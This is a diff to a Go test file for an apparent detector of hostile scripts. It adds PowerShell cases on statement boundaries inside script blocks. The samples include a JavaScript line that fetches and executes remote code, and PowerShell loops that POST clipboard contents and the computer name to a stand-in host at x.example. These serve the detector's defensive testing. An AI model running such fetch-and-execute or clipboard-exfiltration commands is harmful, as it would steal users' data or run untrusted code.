@@ -577,3 +577,14 @@ func TestRelativeFetchAndFunctionLiterals(t *testing.T) {
 		{"fetch('https://x.example/p.js').then(function (r) { return r.text(); }).then(function (t) { new Function(t)(); });\n", JS, "fetch-exec"},
 	})
 }
+
+// In PowerShell a line break inside a script block's braces ends a
+// statement, as at the top level; inside parentheses or a hashtable it
+// does not.
+func TestPowerShellBlockStatements(t *testing.T) {
+	checkKinds(t, []kindCase{
+		{"while ($true) {\n  $c = Get-Clipboard -Raw\n  Invoke-RestMethod -Uri 'https://x.example/p' -Method Post -Body $c\n}\n", PowerShell, "secret-send"},
+		{"if ($x) {\n  $c = Get-Clipboard\n  Invoke-RestMethod -Uri 'https://x.example/p' -Method Post -Body @{\n    h = $env:COMPUTERNAME\n    c = $c\n  }\n}\n", PowerShell, "secret-send"},
+		{"while ($true) {\n  $c = Get-Clipboard -Raw\n  Add-Content -Path ./clip.txt -Value $c\n  Invoke-RestMethod -Uri 'https://x.example/p' -Method Post -Body (Get-Date)\n}\n", PowerShell, ""},
+	})
+}
